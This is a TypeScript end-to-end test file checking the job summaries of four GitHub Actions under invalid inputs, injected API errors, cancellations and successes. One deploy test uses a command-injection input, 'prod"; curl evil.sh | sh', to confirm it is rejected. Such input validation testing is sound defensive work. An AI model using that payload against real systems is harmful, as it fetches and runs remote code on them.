// Job summaries, end to end: each action's shipped bundle, run as the runner runs it (runner
// emulation) against the GitHub emulator, with a bad input, a failed GitHub call (fault injection),
// a cancellation (the runner's SIGINT) and a success; provision also with its own refusals (a
// deletion blocked, a plan that is not the reviewed one). Each run's summary is parsed as GitHub
// Flavored Markdown and must say what failed and how to fix it (a cancellation as "cancelled"),
// end with exactly one headed, labelled execution record, and render cleanly (no empty header
// row, no row wider than its header, no table that renders as pipes, no raw HTML). Every test runs
// the leak scanner (e2e()).
//
// The shared layer's part of a summary (the failure section and the record) is checked in every
// test. Problems in an action's own section are owned by that action's engineer: they are the
// `todo` tests at the end of each group, each naming its owner and the exact cause.
import assert from 'node:assert/strict';
import { describe, test, type TestContext } from 'node:test';
import { e2e, type E2E } from '../harness/e2e.ts';
import { startGitHubEmulator, type GitHubEmulator } from '../harness/github/index.ts';
import type { RunActionOptions, RunResult } from '../harness/runner/index.ts';
import { sections, summaryProblems, type SummarySection } from '../harness/summary-shape.ts';
import { deployWorld, type World } from './helpers/deploy-world.ts';
import { DAY, seedHistory } from './helpers/metrics-history.ts';
import { REPO as REPO_METRICS, metricsWorld, type MetricsWorld } from './helpers/metrics-world.ts';
import { REPO as REPO_INFRA, provisionWorld, type World as ProvisionWorld } from './helpers/provision-world.ts';

const RECORD_HEADER = ['action', 'version', 'outcome', 'duration', 'attempts', 'retries', 'API calls', 'rate limit left', 'run (id/attempt/job)'];
const A = 'a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1';
/** The emulator's x-github-request-id, as GitHub shapes it. */
const REQUEST_ID = /^[0-9A-F]{4}:[0-9A-F]{4}:[0-9A-F]{6}:[0-9A-F]{6}:[0-9A-F]{8}$/;
const B = 'b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2';


interface Shared {
  /** The shared failure section (undefined on success). */
  failure: SummarySection | undefined;
  record: SummarySection;
  /** The record's row, by column. */
  row: Record<string, string>;
  /** "What failed" / "How to fix" … of the failure section, by label. */
  says: Record<string, string>;
}

/**
 * The shared layer's part of a run's summary, checked: one record section, headed and labelled,
 * last; the failure section right before it when the run did not succeed; both well-formed.
 */
function shared(r: RunResult, action: string, outcome: string): Shared {
  const all = sections(r.summary);
  const records = all.filter((s) => s.heading === `Execution record of ${action}`);
  assert.equal(records.length, 1, `one execution record per run:\n${r.summary}`);
  const record = records[0]!;
  assert.equal(all.at(-1), record, 'the record ends the summary');
  assert.deepEqual(record.tables.map((t) => t.header), [RECORD_HEADER], 'the record table is labelled');
  assert.equal(record.tables[0]!.rows.length, 1);
  assert.equal(all.flatMap((s) => s.tables).filter((t) => t.header.join() === RECORD_HEADER.join()).length, 1, 'no second record table');
  const row = Object.fromEntries(RECORD_HEADER.map((h, i) => [h, record.tables[0]!.rows[0]![i] ?? '']));
  assert.equal(row['action'], action);
  assert.equal(row['outcome'], outcome);
  assert.equal(row['outcome'], JSON.parse(r.outputs['record'] ?? '{}').outcome, 'the summary and the record output agree');

  const recordAt = r.summary.lastIndexOf('\n#### Execution record');
  const failed = outcome !== 'success' && outcome !== 'skipped';
  const failure = failed ? all.at(-2) : undefined;
  if (failed) assert.match(failure?.heading ?? '', new RegExp(`^${action}: ${outcome}`), `the failure section precedes the record:\n${r.summary}`);
  const start = failed ? r.summary.lastIndexOf('\n### ', recordAt) : recordAt;
  assert.deepEqual(summaryProblems(r.summary.slice(start)), [], `the shared sections render cleanly:\n${r.summary.slice(start)}`);
  assert.deepEqual(summaryProblems(r.summary.slice(0, start)), [], `the action's own section renders cleanly:\n${r.summary.slice(0, start)}`);
  const says: Record<string, string> = {};
  for (const m of (failure?.text ?? '').matchAll(/^(What failed|What happened|How to fix|How to report it|What to do): ?(.*(?:\n(?!What |How ).+)*)/gm)) says[m[1]!] = m[2]!.trim();
  return { failure, record, row, says };
}

const errorOf = (r: RunResult): string => r.annotations.find((a) => a.level === 'error')?.message ?? '';
const inputRows = (s: SummarySection | undefined): string[][] => s?.tables.find((t) => t.header.join() === 'input,problem,expected')?.rows ?? [];
const facts = (s: SummarySection | undefined): Record<string, string> =>
  Object.fromEntries(s?.tables.find((t) => t.header.join() === 'detail,value')?.rows.map((r) => [r[0], r[1]]) ?? []);

/** Every e2e scan must have something to look for. */
function scanned(h: E2E): void {
  assert.ok(h.secrets().length > 0, 'the leak scanner knows at least one secret of this run');
}

// ---------------------------------------------------------------------------------------------
describe('deploy: job summaries', { concurrency: 4 }, () => {
  const world = (t: TestContext): Promise<World> => deployWorld(t, () => ({ environment: 'staging' }));
  const HEALTH_PASSWORD = 'hc-Pa55_word|*x';

  test('bad inputs: each named with the expected form, nothing called, no credential shown', async (t) => {
    const w = await world(t);
    w.h.secret(HEALTH_PASSWORD);
    const r = await w.deploy({
      environment: 'prod"; curl evil.sh | sh',
      retries: 'lots',
      run: 'echo never',
      'health-url': `http://deployer:${encodeURIComponent(HEALTH_PASSWORD)}@127.0.0.1:9/healthz`,
    });
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'deploy', 'failure');
    assert.equal(s.failure!.heading, 'deploy: failure — 2 invalid inputs');
    assert.deepEqual(inputRows(s.failure), [
      ['environment', 'given "prod\\"; curl evil.sh | sh"', s.failure!.tables[0]!.rows[0]![2]!],
      ['retries', 'given "lots"', 'an integer from 0 to 10'],
    ]);
    assert.match(inputRows(s.failure)[0]![2]!, /environment name/);
    assert.match(s.says['How to fix'] ?? '', /^Give each input listed above a value of the expected form under the step's with:/);
    assert.equal(s.row['API calls'], '0');
    assert.equal(w.gh.requests.length, 0, 'no API call before the inputs are valid');
    assert.match(errorOf(r), /^deploy: 2 inputs are invalid/);
    scanned(w.h);
  });

  test('a GitHub call refused (403): request, status, request id, what GitHub said, the permission to grant', async (t) => {
    const w = await world(t);
    w.gh.faults.inject({
      route: 'GET /repos/{owner}/{repo}/deployments',
      statuses: [403],
      message: 'Resource not accessible by integration',
      headers: { 'x-accepted-github-permissions': 'deployments=read' },
    });
    const r = await w.deploy({ ref: A, run: 'echo never' });
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'deploy', 'failure');
    assert.equal(s.failure!.heading, 'deploy: failure — GitHub API GET /repos/octo/shop/deployments answered 403');
    const f = facts(s.failure);
    assert.equal(f['request'], 'GET /repos/octo/shop/deployments');
    assert.equal(f['status'], '403');
    assert.match(f['request id'] ?? '', REQUEST_ID);
    assert.equal(f['attempts'], '1');
    assert.equal(f['GitHub said'], 'Resource not accessible by integration');
    assert.match(s.says['How to fix'] ?? '', /deployments/i);
    assert.match(s.says['How to fix'] ?? '', /permissions:/);
    assert.equal(s.row['API calls'], String(w.gh.requests.length));
    scanned(w.h);
  });

  test('cancelled while the script runs: "cancelled", never "failure", with what to do', async (t) => {
    const w = await world(t);
    const r = await w.deploy({ ref: A, run: 'echo started; sleep 120' }, { cancelAfterMs: 5000, killGrace: { sigtermAfterMs: 8000, sigkillAfterMs: 2000 } });
    assert.equal(r.cancelled, true);
    const s = shared(r, 'deploy', 'cancelled');
    assert.equal(s.failure!.heading, 'deploy: cancelled');
    assert.match(s.says['What happened'] ?? '', /^The job was cancelled while deploy was running/);
    assert.match(s.says['What to do'] ?? '', /^Nothing needs fixing because of the cancellation itself\. Re-run the job/);
    assert.match(errorOf(r), /^deploy: cancelled/);
    scanned(w.h);
  });

  test('success: no failure section, one labelled record', async (t) => {
    const w = await world(t);
    const r = await w.deploy({ ref: A, run: 'true' });
    assert.equal(r.exitCode, 0, r.stdout);
    const s = shared(r, 'deploy', 'success');
    assert.equal(s.row['API calls'], String(w.gh.requests.length));
    assert.ok(!sections(r.summary).some((x) => /^deploy: (failure|cancelled)/.test(x.heading)));
    scanned(w.h);
  });

  // deploy's own section and outputs: the whole summary, the heading of a cancelled run, the log of a failed gate, the URL output.
  test('the whole summary of a deploy renders cleanly', async (t) => {
    const w = await world(t);
    const r = await w.deploy({ ref: A, run: 'true' });
    assert.deepEqual(summaryProblems(r.summary), []);
    scanned(w.h);
  });

  test("a cancelled deploy's own section is headed cancelled", async (t) => {
    const w = await world(t);
    const r = await w.deploy({ ref: A, run: 'sleep 120' }, { cancelAfterMs: 5000, killGrace: { sigtermAfterMs: 8000, sigkillAfterMs: 2000 } });
    assert.ok(!sections(r.summary).some((x) => /failure/.test(x.heading)), r.summary);
    assert.equal(r.outputs['status'], 'cancelled');
    scanned(w.h);
  });

  test('a failed health gate is never logged as done', async (t) => {
    const w = await deployWorld(t, (target) => ({ environment: 'staging', 'health-url': target.healthUrl }));
    assert.equal((await w.deploy({ ref: A, run: 'curl -fsS --data-binary "$DEPLOY_SHA" "$TARGET/deploy"', 'health-json': `version=${A}` })).exitCode, 0);
    w.target.broken.add(B);
    const r = await w.deploy({ ref: B, run: 'curl -fsS --data-binary "$DEPLOY_SHA" "$TARGET/deploy"', 'health-json': `version=${B}`, 'health-timeout': '1s' });
    assert.equal(r.exitCode, 1);
    assert.match(r.stdout, /^Health gate: failed in /m);
    assert.doesNotMatch(r.stdout, /^Health gate: done/m);
    scanned(w.h);
  });

  test('environment-url output is the URL as given', async (t) => {
    const w = await world(t);
    const r = await w.deploy({ ref: A, run: 'true', 'environment-url': 'https://shop.example' });
    assert.equal(r.exitCode, 0);
    assert.equal(r.outputs['environment-url'], 'https://shop.example');
    scanned(w.h);
  });

  test('environment-url output after a rollback is the live URL', async (t) => {
    const w = await deployWorld(t, (target) => ({ environment: 'staging', 'health-url': target.healthUrl, 'environment-url': 'https://shop.example/' }));
    assert.equal((await w.deploy({ ref: A, run: 'curl -fsS --data-binary "$DEPLOY_SHA" "$TARGET/deploy"', 'health-json': `version=${A}` })).exitCode, 0);
    w.target.broken.add(B);
    // B publishes another URL: after the rollback A is live again, at A's.
    const r = await w.deploy({ ref: B, run: 'curl -fsS --data-binary "$DEPLOY_SHA" "$TARGET/deploy"', 'health-json': `version=${B}`, 'health-timeout': '1s', 'environment-url': 'https://b.shop.example' });
    assert.equal(r.outputs['status'], 'rolled-back');
    assert.equal(r.outputs['environment-url'], 'https://shop.example/');
    scanned(w.h);
  });
});

// ---------------------------------------------------------------------------------------------
interface RotateWorld {
  h: E2E;
  em: GitHubEmulator;
  token: string;
  run(inputs: Record<string, string>, opts?: Partial<RunActionOptions>): Promise<RunResult>;
}

let rotations = 0;
async function rotateWorld(t: TestContext, tokenOpts: { canWriteSecrets?: boolean } = {}): Promise<RotateWorld> {
  const em = await startGitHubEmulator();
  t.after(() => em.close());
  em.seed.repo('octo/app');
  const token = `ghs_summaries${String(++rotations).padStart(3, '0')}${'0'.repeat(24)}`;
  em.seed.token(token, tokenOpts);
  const h = e2e(t);
  h.haystack(() => em.receivedStrings());
  return {
    h,
    em,
    token,
    run: (inputs, opts = {}) =>
      h.run({
        action: 'rotate-secret',
        inputs: { name: 'DB_PASSWORD', destinations: 'github:repo', ...inputs },
        token,
        ...opts,
        env: { GITHUB_API_URL: em.url, ...opts.env },
        context: { repository: 'octo/app', runId: String(7000 + rotations) },
      }),
  };
}

describe('rotate-secret: job summaries', { concurrency: 4 }, () => {
  test('bad inputs: each named with the expected form; a given value never shown', async (t) => {
    const w = await rotateWorld(t);
    const value = w.h.secret('Given-Value_0f|the*Secret');
    const r = await w.run({ name: '1BAD', length: '3', charset: 'emoji', value });
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'rotate-secret', 'failure');
    assert.match(s.failure!.heading, /^rotate-secret: failure — \d+ invalid inputs$/);
    const rows = inputRows(s.failure);
    for (const [name, given] of [['name', '1BAD'], ['length', '3'], ['charset', 'emoji']] as const) {
      const row = rows.find((x) => x[0] === name);
      assert.ok(row, `${name} is listed: ${JSON.stringify(rows)}`);
      assert.equal(row[1], `given "${given}"`);
      assert.ok(row[2] !== '–' && row[2]!.length > 3, `${name}: the expected form is given`);
    }
    assert.equal(w.em.requests.length, 0);
    scanned(w.h);
  });

  test('the workflow token cannot write secrets (403): the request, its id, and which token to pass', async (t) => {
    const w = await rotateWorld(t, { canWriteSecrets: false });
    const r = await w.run({});
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'rotate-secret', 'failure');
    const refused = w.em.requests.find((q) => q.status === 403);
    assert.ok(refused, 'GitHub refused a write');
    assert.match(s.failure!.heading, /^rotate-secret: failure — GitHub API (PUT|POST|PATCH) \S+ answered 403$/);
    const f = facts(s.failure);
    assert.equal(f['status'], '403');
    assert.match(f['request id'] ?? '', REQUEST_ID);
    assert.equal(f['GitHub said'], 'Resource not accessible by integration');
    assert.match(s.says['How to fix'] ?? '', /token/i);
    assert.match(s.says['What failed'] ?? '', /github-token cannot write/);
    scanned(w.h);
  });

  test('cancelled while GitHub does not answer: "cancelled", with what to do', async (t) => {
    const w = await rotateWorld(t);
    w.em.faults.inject({ route: '*', action: 'hang' });
    const r = await w.run({}, { cancelAfterMs: 4000, killGrace: { sigtermAfterMs: 8000, sigkillAfterMs: 2000 } });
    assert.equal(r.cancelled, true);
    const s = shared(r, 'rotate-secret', 'cancelled');
    assert.equal(s.failure!.heading, 'rotate-secret: cancelled');
    assert.match(s.says['What to do'] ?? '', /^Nothing needs fixing because of the cancellation itself/);
    scanned(w.h);
  });

  test('success: no failure section, one labelled record', async (t) => {
    const w = await rotateWorld(t);
    const r = await w.run({});
    assert.equal(r.exitCode, 0, r.stdout);
    const s = shared(r, 'rotate-secret', 'success');
    assert.equal(s.row['API calls'], String(w.em.requests.length));
    scanned(w.h);
  });

  test('the whole summary of a rotation renders cleanly', async (t) => {
    const w = await rotateWorld(t);
    const r = await w.run({});
    assert.equal(r.exitCode, 0, r.stdout);
    assert.deepEqual(summaryProblems(r.summary), []);
    const own = sections(r.summary).find((x) => x.heading.startsWith('rotate-secret: DB_PASSWORD'));
    assert.deepEqual(own?.tables.map((x) => x.header), [['fact', 'value'], ['step', 'status', 'what', 'duration'], ['destination', 'result']]);
    scanned(w.h);
  });

  test('a dry run without a target says what it would do in words', async (t) => {
    const w = await rotateWorld(t);
    const r = await w.run({ 'dry-run': 'true' });
    assert.equal(r.exitCode, 0, r.stdout);
    assert.doesNotMatch(r.summary, /would no target/);
    assert.match(r.summary, /^\| set \| skipped \| dry run — nothing to do: no target \| /m);
    assert.match(r.summary, /^\| distribute \| skipped \| dry run — would write to 1 destination\(s\): github:repo:octo\/app \|/m);
    assert.deepEqual(summaryProblems(r.summary), []);
    scanned(w.h);
  });
});

// ---------------------------------------------------------------------------------------------
describe('report-metrics: job summaries', { concurrency: 4 }, () => {
  /** A small CI history of the workflow the runner emulation names (ci.yml), the one measured by default. */
  const withHistory = (w: MetricsWorld): void => {
    const now = Date.now();
    seedHistory(w.gh, REPO_METRICS, [{ file: 'ci.yml', name: 'CI', pushPerDay: 3, medianMs: 120_000, sigma: 0.1 }], { from: now - 35 * DAY, to: now - 60_000, seed: 11 });
  };

  test('bad inputs: each named with the expected form, nothing called', async (t) => {
    const w = await metricsWorld(t);
    const bad = { window: 'forever', 'regression-threshold': '0', alert: 'pager' };
    const r = await w.report(bad);
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'report-metrics', 'failure');
    assert.equal(s.failure!.heading, 'report-metrics: failure — 3 invalid inputs');
    const rows = inputRows(s.failure);
    assert.deepEqual(rows.map((x) => x[0]), Object.keys(bad));
    for (const row of rows) {
      assert.equal(row[1], `given "${bad[row[0] as keyof typeof bad]}"`);
      assert.ok(row[2] !== '–' && row[2]!.length > 3, `${row[0]}: the expected form is given`);
    }
    assert.equal(w.gh.requests.length, 0);
    scanned(w.h);
  });

  test('listing the runs refused (403): request, status, request id, and the permission to grant', async (t) => {
    const w = await metricsWorld(t);
    withHistory(w);
    w.gh.faults.inject({ route: 'GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs', statuses: [403], message: 'Resource not accessible by integration', headers: { 'x-accepted-github-permissions': 'actions=read' } });
    const r = await w.report({});
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'report-metrics', 'failure');
    assert.match(s.failure!.heading, /^report-metrics: failure — GitHub API GET \/repos\/octo\/shop\/actions\/workflows\/ci\.yml\/runs answered 403$/);
    const f = facts(s.failure);
    assert.equal(f['status'], '403');
    assert.match(f['request id'] ?? '', REQUEST_ID);
    assert.equal(f['GitHub said'], 'Resource not accessible by integration');
    assert.match(s.says['How to fix'] ?? '', /actions/);
    assert.match(s.says['How to fix'] ?? '', /permissions:/);
    scanned(w.h);
  });

  test('cancelled while GitHub does not answer: "cancelled", with what to do', async (t) => {
    const w = await metricsWorld(t);
    w.gh.faults.inject({ route: '*', action: 'hang' });
    const r = await w.h.run({
      action: 'report-metrics',
      inputs: {},
      token: w.token,
      env: { GITHUB_API_URL: w.gh.url },
      context: { repository: REPO_METRICS },
      cancelAfterMs: 4000,
      killGrace: { sigtermAfterMs: 8000, sigkillAfterMs: 2000 },
    });
    assert.equal(r.cancelled, true);
    const s = shared(r, 'report-metrics', 'cancelled');
    assert.equal(s.failure!.heading, 'report-metrics: cancelled');
    assert.match(s.says['What to do'] ?? '', /^Nothing needs fixing because of the cancellation itself/);
    scanned(w.h);
  });

  test('success: no failure section, one labelled record, the whole summary renders cleanly', async (t) => {
    const w = await metricsWorld(t);
    withHistory(w);
    const r = await w.report({});
    assert.equal(r.exitCode, 0, r.stdout);
    const s = shared(r, 'report-metrics', 'success');
    assert.equal(s.row['API calls'], String(w.gh.requests.length));
    assert.deepEqual(summaryProblems(r.summary), []);
    scanned(w.h);
  });
});

// ---------------------------------------------------------------------------------------------
// provision on the terraform double (test/harness/terraform): the failures are its own refusals, so
// each must come with provision's own fix, not the generic advice.
describe('provision: job summaries', { concurrency: 4 }, () => {
  const DIR = 'infra';
  const KEY = 'summaries-plan-key-5d1e';
  const config = (resources: Record<string, object>): string => JSON.stringify({ resource: { terraform_data: resources } });
  const BOTH = { app: { input: { name: 'shop' } }, db: { input: { size: 'small' } } };
  const planInputs = (extra: Record<string, string> = {}): Record<string, string> => ({ tool: 'terraform', 'working-directory': DIR, 'plan-file': 'infra.plan', 'plan-encryption-key': KEY, ...extra });
  const applyInputs = (digest: string, extra: Record<string, string> = {}): Record<string, string> => ({ ...planInputs(extra), command: 'apply', 'plan-digest': digest });
  /** A world whose state holds BOTH, planned and applied through the action. */
  const applied = async (t: TestContext): Promise<ProvisionWorld> => {
    const w = await provisionWorld(t);
    w.h.secret(KEY);
    w.write(`${DIR}/main.tf.json`, config(BOTH));
    const p = await w.provision(planInputs());
    assert.equal(p.exitCode, 0, p.stdout);
    assert.equal((await w.provision(applyInputs(p.outputs['plan-digest']!))).exitCode, 0);
    return w;
  };

  test('bad inputs: each named with the expected form', async (t) => {
    const w = await provisionWorld(t);
    w.gh.faults.inject({ route: '*', statuses: [500] }); // any call it made would fail
    const bad = { tool: 'terragrunt', retries: '-1', timeout: 'soon' };
    const r = await w.provision(bad);
    assert.equal(r.exitCode, 1);
    const s = shared(r, 'provision', 'failure');
    assert.equal(s.failure!.heading, 'provision: failure — 3 invalid inputs');
    const rows = inputRows(s.failure);
    assert.deepEqual(rows.map((x) => x[0]), Object.keys(bad));
    for (const row of rows) {
      assert.equal(row[1], `given "${bad[row[0] as keyof typeof bad]}"`);
      assert.ok(row[2] !== '–' && row[2]!.length > 3);
    }
    assert.equal(w.gh.requests.length, 0);
    scanned(w.h);
  });

  test('a deletion blocked by the guard: what was blocked, and how to allow it in the workflow', async (t) => {
    const w = await applied(t);
    w.write(`${DIR}/main.tf.json`, config({ app: BOTH.app }));
    const r = await w.provision(planInputs());
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs['failure-reason'], 'destroy-blocked');
    const s = shared(r, 'provision', 'failure');
    assert.match(s.failure!.heading, /^provision: failure — destructive changes blocked: 1 deletion or replacement, more than max-destroy \(0\)/);
    assert.match(s.says['What failed'] ?? '', /destructive changes blocked/);
    assert.match(s.says['How to fix'] ?? '', /^If these deletions or replacements are intended, allow them in the workflow \(raise max-destroy, or take the resource out of protected-resources\)/);
    // provision's own section, above: the blocked deletion in the change table.
    const own = sections(r.summary).find((x) => x.heading.startsWith('provision: terraform plan'));
    assert.ok(own?.tables.some((tb) => tb.rows.some((row) => row.join(' ').includes('terraform_data.db'))), r.summary);
    assert.deepEqual(summaryProblems(r.summary), [], 'the whole summary renders cleanly');
    scanned(w.h);
  });

  test('apply of a plan that is not the reviewed one (plan-changed): nothing applied, how to apply the reviewed plan', async (t) => {
    const w = await applied(t);
    w.write(`${DIR}/main.tf.json`, config({ ...BOTH, cache: { input: { size: 'tiny' } } }));
    const p = await w.provision(planInputs());
    assert.equal(p.exitCode, 0, p.stdout);
    const other = `hmac-sha256:${'0'.repeat(64)}`;
    const r = await w.provision(applyInputs(other));
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs['failure-reason'], 'plan-changed');
    const s = shared(r, 'provision', 'failure');
    assert.match(s.says['What failed'] ?? '', /not the reviewed hmac-sha256:0{64}.*Nothing was applied/);
    assert.match(s.says['How to fix'] ?? '', /plan-file .* plan-digest output, with the same plan-encryption-key/);
    assert.deepEqual(summaryProblems(r.summary), [], 'the whole summary renders cleanly');
    scanned(w.h);
  });

  test('the drift issue refused (403): the drift is published, then the call, its request id and the permission to grant', async (t) => {
    const w = await provisionWorld(t);
    // A file the tool manages, edited behind its back: drift a refresh-only plan finds.
    w.write(`${DIR}/main.tf.json`, JSON.stringify({ resource: { local_file: { motd: { filename: 'out/motd.txt', content: 'welcome\n' } } } }));
    w.terraform(DIR, ['init', '-input=false']);
    w.terraform(DIR, ['apply', '-auto-approve', '-input=false']);
    w.write(`${DIR}/out/motd.txt`, 'edited by hand\n');
    w.gh.faults.inject({ route: 'GET /repos/{owner}/{repo}/issues', statuses: [403], message: 'Resource not accessible by integration', headers: { 'x-accepted-github-permissions': 'issues=read' } });
    const r = await w.provision({ tool: 'terraform', command: 'drift', 'working-directory': DIR, alert: 'issue' });
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs['drift'], 'true', 'the drift is published although the issue could not be');
    const s = shared(r, 'provision', 'failure');
    assert.equal(s.failure!.heading, 'provision: failure — GitHub API GET /repos/octo/infra/issues answered 403');
    const f = facts(s.failure);
    assert.equal(f['status'], '403');
    assert.match(f['request id'] ?? '', REQUEST_ID);
    assert.equal(f['GitHub said'], 'Resource not accessible by integration');
    assert.match(s.says['What failed'] ?? '', /^Failed to update the drift issue/);
    assert.match(s.says['How to fix'] ?? '', /issues/i);
    assert.match(s.says['How to fix'] ?? '', /permissions:/);
    assert.deepEqual(summaryProblems(r.summary), [], 'the whole summary renders cleanly');
    scanned(w.h);
  });

  test('cancelled while terraform applies: "cancelled", never "failure", with what to do', async (t) => {
    const w = await provisionWorld(t);
    w.h.secret(KEY);
    w.write(`${DIR}/main.tf.json`, config(BOTH));
    const p = await w.provision(planInputs());
    assert.equal(p.exitCode, 0, p.stdout);
    w.tf.setFaults({ slow: { 'terraform_data.app': 6000 } });
    const r = await w.provision(applyInputs(p.outputs['plan-digest']!, { 'stop-grace': '30s' }), { cancelAfterMs: 3000 });
    assert.equal(r.cancelled, true);
    assert.equal(r.outputs['failure-reason'], 'cancelled');
    const s = shared(r, 'provision', 'cancelled');
    assert.equal(s.failure!.heading, 'provision: cancelled');
    assert.match(s.says['What to do'] ?? '', /^Nothing needs fixing because of the cancellation itself/);
    assert.deepEqual(summaryProblems(r.summary), [], 'the whole summary renders cleanly');
    scanned(w.h);
  });

  test('success: a plan on a pull request, posted; no failure section, one labelled record, the whole summary renders cleanly', async (t) => {
    const w = await provisionWorld(t);
    w.h.secret(KEY);
    w.write(`${DIR}/main.tf.json`, config(BOTH));
    const pr = w.gh.seed.pullRequest(REPO_INFRA, { title: 'infra: app and db' });
    const r = await w.provision(planInputs(), { pullRequest: pr });
    assert.equal(r.exitCode, 0, r.stdout);
    const s = shared(r, 'provision', 'success');
    assert.equal(s.row['API calls'], String(w.gh.requests.length));
    assert.equal(w.comments(pr).length, 1, 'the plan is on the pull request');
    assert.ok(!sections(r.summary).some((x) => /^provision: (failure|cancelled)/.test(x.heading)));
    assert.deepEqual(summaryProblems(r.summary), [], 'the whole summary renders cleanly');
    scanned(w.h);
  });
});
